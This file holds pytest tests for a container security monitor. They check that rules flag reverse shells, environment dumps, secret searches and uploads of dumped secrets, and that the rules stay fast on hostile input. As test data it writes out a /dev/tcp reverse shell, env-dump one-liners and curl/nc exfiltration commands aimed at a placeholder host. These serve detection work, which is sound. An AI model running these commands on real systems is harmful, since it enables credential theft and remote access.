    daemon.packs = load_packs(None, None)  # the bundled rule packs
    found: list[rules.Threat] = []
    daemon.respond = lambda watched, threats, now: found.extend(threats)  # type: ignore[method-assign]
    watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/"), "uuid-1")
    daemon.watched = {"c": watched}
    huge = bound_argv(["sh", "-c", ">" * 120_000])  # as the capture process forwards it
    for pid in range(100, 140):
        daemon.on_exec(watched, pid, huge, time.monotonic(), 1)
    shell = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
    daemon.on_exec(watched, 999, shell, time.monotonic(), 1)
    assert judged[-1] == {999}, "the last exec was judged by behaviour at intake"
    assert len(daemon.rule_queue) == 41
    assert max(sum(len(a) for a in e[3]) for e in watched.recent) <= RECENT_BYTES
    started = time.monotonic()
    daemon.run_rules(budget=0.05)
    assert time.monotonic() - started < 1.0 and 0 < len(daemon.rule_queue) < 41
    while daemon.rule_queue:
        daemon.run_rules()
    assert "proc.dev-tcp" in {t.rule_id for t in found}


class FakeInstance:
    def __init__(self, name: str, uuid: str, status: str = "Running") -> None:
        self.name, self.status = name, status
        self.config = {"volatile.uuid": uuid}


def test_a_slot_started_again_under_the_same_name_is_watched_anew(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The daemon tracked containers by name: a slot killed and started again within a
    refresh kept its predecessor's record (marked killed, its events ignored), so the new
    container went unwatched, and threats were de-duplicated against the old one's. A
    different instance id or a dead init means another container: forget, watch again; the
    delayed kill acts only on the container it judged."""
    import os
    import types

    from coi_tui.monitor import daemon as daemon_mod
    from coi_tui.monitor.daemon import Daemon, Responder

    listing = [FakeInstance("c", "uuid-1")]
    init = [os.getpid()]
    killed: list[str] = []
    daemon = Daemon.__new__(Daemon)
    daemon.config = MonitorConfig()
    daemon.home = Path("/nonexistent-coi-home")
    daemon.watched, daemon.by_ns, daemon.by_ifindex, daemon.by_ip = {}, {}, {}, {}
    daemon.timers, daemon.pending, daemon.capture_ctl = [], set(), -1
    daemon.rule_queue = daemon_mod.deque()
    daemon.settled, daemon.listed_at, daemon.foreign = None, -1e9, set()  # refresh() asks
    daemon.interrupted, daemon.faults = set(), 0  # watch() asks (run_restarting)
    daemon.incus = types.SimpleNamespace(
        list_instances=lambda prefix: listing,
        instance_state=lambda name: {"pid": init[0], "network": {}},
        instance_config=lambda name: listing[0].config,
    )
    daemon.nft = types.SimpleNamespace(add=lambda iface: None, discard=lambda iface: None)
    daemon.broadcaster = types.SimpleNamespace(publish_event=lambda event: None)
    daemon.log = lambda message: None  # type: ignore[method-assign]
    daemon.scan = lambda watched, full, nsmap=None: None  # type: ignore[method-assign]
    daemon.kill = lambda name, expect_id="": killed.append(f"{name}@{expect_id}")  # type: ignore
    monkeypatch.setattr(daemon_mod, "tag_for", lambda home: "abc123")

    daemon.refresh()
    first = daemon.watched["c"]
    assert first.uuid == "uuid-1" and daemon.by_ns[first.pidns] is first
    first.status = "Killed"  # the monitor killed it; its kill worker is still busy
    daemon.refresh()
    assert daemon.watched["c"] is first, "the same container: still the same record"

    listing[0] = FakeInstance("c", "uuid-2")  # the slot started again before a refresh
    daemon.refresh()
    second = daemon.watched["c"]
    assert second is not first and second.uuid == "uuid-2" and second.status == "Running"
    assert daemon.by_ns[second.pidns] is second
    # the first container's delayed kill must not hit its successor
    responder = Responder(daemon)
    responder._incus_action(first, "kill")
    assert killed == []
    responder._incus_action(second, "kill")
    assert killed == ["c@uuid-2"]
    # de-duplication is per container: the successor's first threat is acted on
    assert first.identity != second.identity
    responder.pool.shutdown()

    # the same instance restarted (same id, another init): watched anew too
    second.init_pid = 2**22 + 12345  # no such process
    daemon.refresh()
    assert daemon.watched["c"] is not second and daemon.watched["c"].uuid == "uuid-2"


# --------------------------------------------------------------------------- environment scans
PY_FOR = "import os\nfor k, v in os.environ.items():\n    print(k, v)"


@pytest.mark.parametrize(
    ("argv", "rule"),
    [
        (["python3", "-c", "import os; print(os.environ)"], "cred.env-dump"),
        (["python3", "-c", "import os,json; print(json.dumps(dict(os.environ)))"], "cred.env-dump"),
        (["python3.12", "-c", PY_FOR], "cred.env-dump"),
        (["python3", "-c", "from os import environ; import sys; sys.stdout.write(str(environ))"],
         "cred.env-dump"),
        (["node", "-e", "console.log(JSON.stringify(process.env))"], "cred.env-dump"),
        (["node", "-e", "console.log(process.env)"], "cred.env-dump"),
        (["node", "-p", "process.env"], "cred.env-dump"),
        (["ruby", "-e", "puts ENV.to_h"], "cred.env-dump"),
        (["ruby", "-e", "ENV.each { |k, v| puts k + v }"], "cred.env-dump"),
        (["perl", "-e", 'print "$_=$ENV{$_}\\n" for keys %ENV'], "cred.env-dump"),
        (["php", "-r", "print_r(getenv());"], "cred.env-dump"),
        (["awk", "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }"], "cred.env-dump"),
        (["env"], "cred.env-dump"),
        (["printenv"], "cred.env-dump"),
        (["env", "-0"], "cred.env-dump"),
        (["env", "-u", "HOME"], "cred.env-dump"),
        (sh("set"), "cred.env-dump"),
        (sh("set -o posix; set > /tmp/vars"), "cred.env-dump"),
        (sh("export -p > /tmp/x"), "cred.env-dump"),
        (sh("declare -x"), "cred.env-dump"),
        (sh("typeset -p | grep -i key"), "cred.env-dump"),
        (sh("echo $(printenv) | base64"), "cred.env-dump"),
        (["cat", "/proc/self/environ"], "cred.env-dump"),
        (["cat", "/proc/1/environ"], "cred.proc-environ"),
        (sh("tr '\\0' '\\n' < /proc/1234/environ"), "cred.proc-environ"),
        (["ps", "auxeww"], "cred.proc-environ"),
        (["grep", "-ri", "api_key\\|token\\|secret\\|password", "/home/code/.config"],
         "cred.secret-search"),
        (sh("grep -ri 'api_key\\|token' ~/.config"), "cred.secret-search"),
        (["rg", "-i", "aws_secret_access_key", "/"], "cred.secret-search"),
        (["awk", "/token/", ".env"], "cred.secret-search"),
        (["sed", "-n", "/password/p", "/etc/app/app.conf"], "cred.secret-search"),
        (["grep", "-rl", "token", "/"], "cred.secret-search"),
        (sh("rg -i password $HOME"), "cred.secret-search"),
        (["git", "grep", "-i", "secret", "--", "/root/.aws"], "cred.secret-search"),
    ],
)  # fmt: skip
def test_environment_and_secret_scans_warn(argv: list[str], rule: str) -> None:
    found = levels(argv)
    assert found.get(rule) == "warning", found
    assert not {lvl for lvl in found.values()} & set(SERIOUS_LEVELS), found


SERIOUS_LEVELS = ("high", "critical")


@pytest.mark.parametrize(
    "argv",
    [
        ["env", "FOO=1", "make"],
        ["env", "make"],
        ["env", "-i", "PATH=/usr/bin", "sh", "-c", "true"],
        ["printenv", "HOME"],
        ["python3", "-c", 'import os; print(os.environ["HOME"])'],
        ["python3", "-c", "import os; print(os.environ.get('CI'))"],
        ["python3", "-c", "import os; print('CI' in os.environ)"],
        ["python3", "-c", "import os, subprocess; subprocess.run(['make'], env=dict(os.environ))"],
        ["python3", "-c", "import os, subprocess as s; s.run(['make'], env=os.environ.copy())"],
        ["python3", "-m", "pytest", "-q", "tests/"],
        ["node", "-e", "console.log(process.env.HOME)"],
        ["node", "-e", "console.log(Object.keys(process.env).length)"],
        ["node", "-e", "require('child_process').spawnSync('make', {env: process.env})"],
        ["ruby", "-e", "puts ENV['HOME']"],
        ["perl", "-e", "print $ENV{HOME}"],
        ["grep", "-r", "TODO", "src/"],
        ["grep", "token", "src/lexer.py"],
        ["grep", "-rn", "password", "tests/"],
        ["rg", "token"],
        ["rg", "-i", "secret", "src", "docs"],
        ["sed", "-i", "s/token/tok/", "src/lexer.py"],
        ["awk", "-F:", "{print $1}", "/etc/passwd"],
        ["grep", "-r", "token", ".github/workflows"],
        ["ps", "-ef"],
        ["ps", "aux"],
        ["ps", "-u", "code"],
        ["ps", "-C", "sleep"],
        sh("set -euo pipefail; make"),
        sh("export PATH=/x:$PATH; make"),
        sh("declare -p PATH; declare -f"),
        sh("env FOO=1 make && printenv HOME"),
    ],
)  # fmt: skip
def test_environment_look_alikes_stay_quiet(argv: list[str]) -> None:
    found = rules.cmdline_threats(1, argv, "")
    assert [t.rule_id for t in found] == [], found


def recent_execs(
    *execs: tuple[float, int, list[str], str, str],
) -> deque[tuple[float, int, int, list[str], str, str]]:
    """(time, pid, argv, stdin, stdout) -> the daemon's record of recent execs."""
    return deque((at, pid, 1, argv, fd0, fd1) for at, pid, argv, fd0, fd1 in execs)


DUMP = ["python3", "-c", "import os; print(dict(os.environ))"]


@pytest.mark.parametrize(
    ("source", "stdout", "sender", "stdin"),
    [
        (DUMP, "/tmp/e", ["curl", "-s", "-T", "/tmp/e", f"http://{H}:9000/"], "/dev/null"),
        (["env"], "/tmp/e", ["curl", "--data-binary", "@e", f"http://{H}/x"], "/dev/null"),
        (["grep", "-ri", "token", "/root/.config"], "/tmp/found", ["nc", H, "9000"], "/tmp/found"),
        (["node", "-e", "console.log(process.env)"], "/tmp/e",
         ["python3", "-c", f"import urllib.request as u; u.urlopen('http://{H}/', "
          "data=open('/tmp/e','rb').read())"], "/dev/null"),
        (["printenv"], "/tmp/.x", ["scp", "/tmp/.x", "u@build.example:/srv/"], "/dev/null"),
    ],
)  # fmt: skip
def test_a_dump_written_to_a_file_then_uploaded_is_high(
    source: list[str], stdout: str, sender: list[str], stdin: str
) -> None:
    recent = recent_execs((10.0, 5, source, "/dev/pts/0", stdout), (12.0, 6, sender, stdin, "-"))
    (found,) = rules.dump_then_send(recent, 6, sender, 12.0)
    assert found.rule_id == "exfil.secrets-to-network" and found.level == "high"
    assert found.category == "credential_access" and stdout in found.description


@pytest.mark.parametrize(
    ("source", "stdout", "sender", "at"),
    [
        # the dump went into a pipe (`env | grep -c PATH`), then an unrelated upload
        (["env"], "pipe:[7]", ["curl", "-T", "/tmp/dist.tgz", f"http://{H}/up"], 12.0),
        # a file of one variable, not the environment
        (["printenv", "HOME"], "/tmp/h", ["curl", "-T", "/tmp/h", f"http://{H}/up"], 12.0),
        # a download into the dump's file
        (DUMP, "/tmp/e", ["curl", "-o", "/tmp/e", f"http://{H}/x"], 12.0),
        # to a local service
        (DUMP, "/tmp/e", ["curl", "-T", "/tmp/e", "http://localhost:8000/"], 12.0),
        # another file
        (DUMP, "/tmp/e", ["curl", "-T", "/tmp/other", f"http://{H}/up"], 12.0),
        # long after
        (DUMP, "/tmp/e", ["curl", "-T", "/tmp/e", f"http://{H}/up"], 100.0),
    ],
)  # fmt: skip
def test_a_dump_that_is_not_sent_stays_a_warning(
    source: list[str], stdout: str, sender: list[str], at: float
) -> None:
    recent = recent_execs((10.0, 5, source, "/dev/pts/0", stdout), (at, 6, sender, "", "-"))
    assert rules.dump_then_send(recent, 6, sender, at) == []


@pytest.mark.parametrize(
    "script",
    [
        f"grep -ri 'token\\|secret' ~/.config | curl -s --data-binary @- http://{H}/x",
        f"python3 -c 'import os; print(dict(os.environ))' | curl -d @- http://{H}/",
        f"node -e 'console.log(JSON.stringify(process.env))' > /tmp/e; curl -T /tmp/e http://{H}/",
        f"set > /tmp/v && nc {H} 9000 < /tmp/v",
    ],
)
def test_a_scan_piped_or_written_and_sent_in_one_script_is_high(script: str) -> None:
    found = levels(sh(script))
    assert found.get("exfil.secrets-to-network") == "high", found


def test_the_daemon_correlates_a_dump_and_its_upload() -> None:
    """Through Daemon.correlate, as run_rules calls it for each exec."""
    from coi_tui.monitor.daemon import Daemon, Watched

    watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/nonexistent"))
    recent = recent_execs((10.0, 5, DUMP, "/dev/pts/0", "/tmp/e"))
    watched.recent.extend(recent)
    upload = ["curl", "-T", "/tmp/e", f"http://{H}/"]
    watched.recent.append((11.0, 6, 1, upload, "/dev/null", "/dev/pts/0"))
    found = Daemon.correlate(None, watched, 6, 1, upload, 11.0)  # type: ignore[arg-type]
    assert [t.rule_id for t in found] == ["exfil.secrets-to-network"]


ENV_HOSTILE = [
    " " * 120_000 + "environ",
    "print(" + " " * 120_000 + "x",
    "for x in " * 12_000,
    "ENV." * 30_000,
    "%ENV" * 30_000,
    "console.log(" * 10_000,
    "dict( " * 20_000,
    "env= " * 24_000,
    "/." * 60_000,
    "token /" * 17_000,
    "=@" * 60_000,
    '"\\"' * 40_000,  # quotes the script splitter must not rescan
    "'\"" * 60_000,
    '"' + "a" * 120_000,
    "&&" * 60_000,
]


@pytest.mark.parametrize("text", ENV_HOSTILE, ids=lambda t: t[:8].strip() or "blank")
def test_environment_rules_run_in_linear_time_on_hostile_argv(text: str) -> None:
    started = time.perf_counter()
    for interpreter, flag in (("python3", "-c"), ("node", "-e"), ("ruby", "-e"), ("perl", "-e"),
                              ("php", "-r"), ("awk", "")):  # fmt: skip
        argv = [interpreter, flag, text] if flag else [interpreter, text]
        rules.cmdline_threats(1, argv, "")
    rules.cmdline_threats(1, ["grep", "-ri", "token", text], "/bin/grep")
    rules.cmdline_threats(1, ["sh", "-c", f"grep -ri token {text}; set; {text}"], "/bin/sh")
    recent = recent_execs(
        *((float(i) / 100, 100 + i, ["env", text[:4096]], "", f"/tmp/{i}") for i in range(1024))
    )
    rules.dump_then_send(recent, 1, ["curl", "-T", text, f"http://{H}/"], 11.0)
    assert time.perf_counter() - started < 2.0


def test_execs_dropped_from_a_full_rule_queue_are_reported(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A flood of costly command lines can fill the rule queue: what falls out is reported
    (WARNING, once a minute per container), never dropped silently."""
    from coi_tui.monitor import daemon as daemon_mod
    from coi_tui.monitor.daemon import Daemon, Watched

    monkeypatch.setattr(daemon_mod.behaviour, "analyse", lambda view, only=None: [])
    monkeypatch.setattr(daemon_mod, "RULE_BACKLOG", 4)
    daemon = Daemon.__new__(Daemon)
    daemon.config = MonitorConfig()
    daemon.timers, daemon.pending = [], set()
    daemon.rule_queue, daemon.rules_skipped, daemon.capture_r = daemon_mod.deque(), 0, -1
    daemon.log = lambda message: None  # type: ignore[method-assign]
    found: list[rules.Threat] = []
    daemon.respond = lambda watched, threats, now: found.extend(threats)  # type: ignore[method-assign]
    watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/"), "uuid-1")
    daemon.watched = {"c": watched}
    for pid in range(100, 110):
        daemon.on_exec(watched, pid, ["sh", "-c", "true"], time.monotonic(), 1)
    behind = [t for t in found if t.rule_id == "monitor.rules-behind"]
    assert len(behind) == 1 and behind[0].level == "warning"
    assert watched.unjudged == 6
